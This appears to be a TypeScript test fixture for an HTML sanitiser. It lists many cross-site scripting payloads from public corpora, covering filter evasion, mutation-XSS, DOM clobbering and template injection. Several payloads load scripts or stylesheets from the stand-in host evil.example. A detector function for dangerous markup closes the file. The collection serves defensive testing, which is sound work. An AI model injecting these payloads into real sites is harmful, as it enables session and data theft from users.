/**
 * Script-injection payloads from public corpora, each with where it comes from:
 * - OWASP: the OWASP XSS Filter Evasion Cheat Sheet
 *   (cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html)
 * - PATT: PayloadsAllTheThings, "XSS Injection" (README and "XSS in HTML" / polyglots)
 * - BLNS: the Big List of Naughty Strings, "Script Injection" and "Server Code Injection"
 * - DOMPurify: the DOMPurify test suite's mutation-XSS and clobbering cases
 *
 * Every payload that could run calls alert/confirm/prompt (the markers the tests install) or
 * loads from the `evil.example` host, which the tests watch for. `clobbered` is the id/name the
 * DOM-clobbering payloads try to plant.
 */
export interface XssPayload {
  source: 'OWASP' | 'PATT' | 'BLNS' | 'DOMPurify' | 'HTML';
  payload: string;
}

export const EVIL_HOST = 'evil.example';
export const CLOBBER_NAME = 'clobbered';

/**
 * Markup whose tag ends elsewhere than a naive reading sees (a `>` inside a quoted value, a
 * comment or CDATA section, a NUL, a tag without spaces) or whose value hides a scheme behind an
 * entity. A tag ends at a `>` outside quoted attribute values, so each of these carries a handler
 * or an address that a filter reading up to the first `>` lets through.
 */
export const QUOTED_GT_PAYLOADS: string[] = [
  '<img src=x alt=">" onerror=alert(1)>',
  "<img src=x alt='>' onerror=alert(1)>",
  '<img src=x alt="/>" onerror=alert(1)>',
  '<p title=">" onclick=alert(1)>quoted gt</p><img src=x title=">" onerror=alert(1)>',
  '<a href="https://a.example" title=">" onmouseover="alert(1)">quoted gt link</a>',
  '<img src=x alt="a>b" title=\'c>d\' onerror=alert(1)>',
];

const TOKENIZER_TRICKS: XssPayload[] = [
  ...QUOTED_GT_PAYLOADS.map((payload) => ({ source: 'HTML' as const, payload })),
  { source: 'OWASP', payload: '<SCRIPT a=">" SRC="https://evil.example/xss.js"></SCRIPT>' },
  { source: 'OWASP', payload: '<SCRIPT =">" SRC="https://evil.example/xss.js"></SCRIPT>' },
  { source: 'OWASP', payload: '<SCRIPT a=">" \'\' SRC="https://evil.example/xss.js"></SCRIPT>' },
  { source: 'OWASP', payload: '<SCRIPT "a=\'>\'" SRC="https://evil.example/xss.js"></SCRIPT>' },
  { source: 'OWASP', payload: '<SCRIPT a=`>` SRC="https://evil.example/xss.js"></SCRIPT>' },
  { source: 'OWASP', payload: '<SCRIPT a=">\'>" SRC="https://evil.example/xss.js"></SCRIPT>' },
  { source: 'HTML', payload: '<img src=x alt=a>b onerror=alert(1)>' },
  { source: 'HTML', payload: '<p title=&gt; onclick=alert(1)>entity gt</p>' },
  { source: 'HTML', payload: '<img src=x alt="&gt;" onerror=alert(1)>' },
  { source: 'HTML', payload: '<!-- > --><img src=x onerror=alert(1)><!-- -->' },
  { source: 'HTML', payload: '<!--><img src=x onerror=alert(1)>-->' },
  { source: 'HTML', payload: '<!-- --!><img src=x onerror=alert(1)>-->' },
  { source: 'HTML', payload: '<![CDATA[><img src=x onerror=alert(1)>]]>' },
  { source: 'HTML', payload: '<p><![CDATA[</p><img src=x onerror=alert(1)>]]></p>' },
  { source: 'HTML', payload: '<img\0 src=x onerror=alert(1)>' },
  {
    source: 'HTML',
    payload: '<scr\0ipt>alert(1)</scr\0ipt><a href="java\0script:alert(1)">nul</a>',
  },
  {
    source: 'HTML',
    payload: '<IMG SRC=x ONERROR=alert(1)><A HREF="JAVASCRIPT:alert(1)">upper</A>',
  },
  { source: 'PATT', payload: '<img/src=x/onerror=alert(1)>' },
  { source: 'PATT', payload: '<img/src="x"/onerror=alert(1)>' },
  { source: 'PATT', payload: '<svg/onload=alert(1)//' },
  { source: 'OWASP', payload: '<a href="java&#x09;script:alert(1)">tab entity</a>' },
  { source: 'OWASP', payload: '<a href="&#106;avascript:alert(1)">decimal entity</a>' },
  { source: 'OWASP', payload: '<a href=" &#14;  javascript:alert(1)">control</a>' },
  { source: 'DOMPurify', payload: '<svg><style><img src=x onerror=alert(1)></style></svg>' },
  {
    source: 'DOMPurify',
    payload: '<svg></p><style><a title="</style><img src=x onerror=alert(1)>">',
  },
  { source: 'DOMPurify', payload: '<math><style><img src=x onerror=alert(1)></style></math>' },
  {
    source: 'DOMPurify',
    payload:
      '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img src=x onerror=alert(1)>">',
  },
  {
    source: 'DOMPurify',
    payload: '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>',
  },
  { source: 'DOMPurify', payload: '<noscript><style></noscript><img src=x onerror=alert(1)>' },
];

export const XSS_PAYLOADS: XssPayload[] = [
  { source: 'BLNS', payload: '<script>alert(1)</script>' },
  { source: 'BLNS', payload: "<script>alert('1');</script>" },
  { source: 'BLNS', payload: '<img src=x onerror=alert(1) />' },
  { source: 'BLNS', payload: '<svg><script>0<1>alert(1)</script>' },
  { source: 'BLNS', payload: '"><script>alert(document.title)</script>' },
  { source: 'BLNS', payload: "'><script>alert(document.title)</script>" },
  { source: 'BLNS', payload: '<IMG SRC=x onerror=javascript:alert(1)>' },
  {
    source: 'BLNS',
    payload: '<a href="javascript\\x3Ajavascript:alert(1)" id="fuzzelement1">test</a>',
  },
  { source: 'BLNS', payload: '<img src=xss onerror=alert(1)>' },
  { source: 'BLNS', payload: '<iframe src="javascript:alert(1)"></iframe>' },
  { source: 'BLNS', payload: '<body onload=alert(1)>' },
  { source: 'BLNS', payload: '<<script>alert(1);//<</script>' },
  { source: 'BLNS', payload: "{{constructor.constructor('alert(1)')()}}" },
  { source: 'BLNS', payload: '{{7*7}} ${7*7} <%= 7*7 %> #{7*7}' },
  { source: 'OWASP', payload: '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>' },
  {
    source: 'OWASP',
    payload:
      "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
  },
  { source: 'OWASP', payload: '<IMG SRC="javascript:alert(\'XSS\');">' },
  { source: 'OWASP', payload: "<IMG SRC=JaVaScRiPt:alert('XSS')>" },
  { source: 'OWASP', payload: '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>' },
  { source: 'OWASP', payload: '<a onmouseover="alert(document.cookie)">xxs link</a>' },
  { source: 'OWASP', payload: '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>' },
  { source: 'OWASP', payload: '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>' },
  {
    source: 'OWASP',
    payload:
      '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  },
  { source: 'OWASP', payload: '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">' },
  { source: 'OWASP', payload: '<SCRIPT/XSS SRC="https://evil.example/xss.js"></SCRIPT>' },
  { source: 'OWASP', payload: '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>' },
  { source: 'OWASP', payload: '<iframe src=https://evil.example/scriptlet.html <' },
  { source: 'OWASP', payload: '</TITLE><SCRIPT>alert("XSS");</SCRIPT>' },
  { source: 'OWASP', payload: '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">' },
  { source: 'OWASP', payload: '<BODY BACKGROUND="javascript:alert(\'XSS\')">' },
  { source: 'OWASP', payload: "<svg/onload=alert('XSS')>" },
  { source: 'OWASP', payload: '<LINK REL="stylesheet" HREF="https://evil.example/xss.css">' },
  { source: 'OWASP', payload: "<STYLE>@import'https://evil.example/xss.css';</STYLE>" },
  {
    source: 'OWASP',
    payload: '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  },
  { source: 'OWASP', payload: '<TABLE BACKGROUND="javascript:alert(\'XSS\')">' },
  { source: 'OWASP', payload: '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">' },
  { source: 'OWASP', payload: '<BASE HREF="https://evil.example/">' },
  {
    source: 'OWASP',
    payload: '<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example/scriptlet.html"></OBJECT>',
  },
  {
    source: 'OWASP',
    payload:
      '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  },
  { source: 'OWASP', payload: '<a href="jav&#x0A;ascript:alert(1)">tab newline</a>' },
  { source: 'PATT', payload: '<details/open/ontoggle="alert(1)">' },
  { source: 'PATT', payload: '<video><source onerror="javascript:alert(1)">' },
  { source: 'PATT', payload: '<audio src=x onerror=alert(1)>' },
  { source: 'PATT', payload: '<marquee onstart=alert(1)>' },
  { source: 'PATT', payload: '<input autofocus onfocus=alert(1)>' },
  { source: 'PATT', payload: '<select autofocus onfocus=alert(1)>' },
  { source: 'PATT', payload: '<textarea autofocus onfocus=alert(1)>' },
  { source: 'PATT', payload: '<keygen autofocus onfocus=alert(1)>' },
  { source: 'PATT', payload: '<form><button formaction=javascript:alert(1)>click</button></form>' },
  {
    source: 'PATT',
    payload:
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  },
  { source: 'PATT', payload: '<svg><animate onbegin=alert(1) attributeName=x dur=1s>' },
  {
    source: 'PATT',
    payload: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>',
  },
  {
    source: 'PATT',
    payload:
      'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e',
  },
  { source: 'PATT', payload: '<object data="javascript:alert(1)">' },
  {
    source: 'PATT',
    payload: '<img src="x" onerror="&#x61;&#x6C;&#x65;&#x72;&#x74;&#x28;&#x31;&#x29;">',
  },
  { source: 'PATT', payload: '<div onpointerover="prompt(1)">MOVE HERE</div>' },
  { source: 'PATT', payload: '<a href="javascript:confirm(1)">click me</a>' },
  { source: 'DOMPurify', payload: '<form id="clobbered"><input name="action"></form>' },
  { source: 'DOMPurify', payload: '<img name="clobbered" src="x">' },
  { source: 'DOMPurify', payload: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">' },
  { source: 'DOMPurify', payload: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">' },
  {
    source: 'DOMPurify',
    payload: '<a id="clobbered" href="https://evil.example/">clobber link</a>',
  },
  ...TOKENIZER_TRICKS,
];

/**
 * Whether a node tree holds anything that could run or reach out: script-capable elements,
 * event handler attributes, script URLs, inline styles from content, clobbering ids or names.
 * Runs in the page (serialised by Playwright), so it must not use anything from this module.
 */
export function findDangerousMarkup(root: Element | null, clobberName: string): string[] {
  if (!root) return [];
  const found: string[] = [];
  const forbiddenTags = new Set([
    'SCRIPT',
    'IFRAME',
    'OBJECT',
    'EMBED',
    'FRAME',
    'FRAMESET',
    'BASE',
    'META',
    'LINK',
    'STYLE',
    'APPLET',
  ]);
  const urlAttributes = [
    'href',
    'src',
    'action',
    'formaction',
    'xlink:href',
    'data',
    'background',
    'poster',
    'srcdoc',
  ];
  for (const element of [root, ...Array.from(root.querySelectorAll('*'))]) {
    if (forbiddenTags.has(element.tagName.toUpperCase())) {
      const type = element.getAttribute('type') ?? '';
      // The app's own JSON-LD data block is data, never executed.
      if (!(element.tagName === 'SCRIPT' && type === 'application/ld+json'))
        found.push(`<${element.tagName.toLowerCase()}>`);
    }
    for (const attribute of Array.from(element.attributes)) {
      const name = attribute.name.toLowerCase();
      if (name.startsWith('on')) found.push(`${element.tagName.toLowerCase()}[${name}]`);
      if (
        urlAttributes.includes(name) &&
        /^\s*(javascript|vbscript|data):/i.test(attribute.value.replace(/[\s\p{Cc}]/gu, ''))
      ) {
        found.push(`${element.tagName.toLowerCase()}[${name}=${attribute.value.slice(0, 40)}]`);
      }
      if ((name === 'id' || name === 'name') && attribute.value === clobberName)
        found.push(`${element.tagName.toLowerCase()}[${name}=${clobberName}]`);
    }
  }
  return found;
}
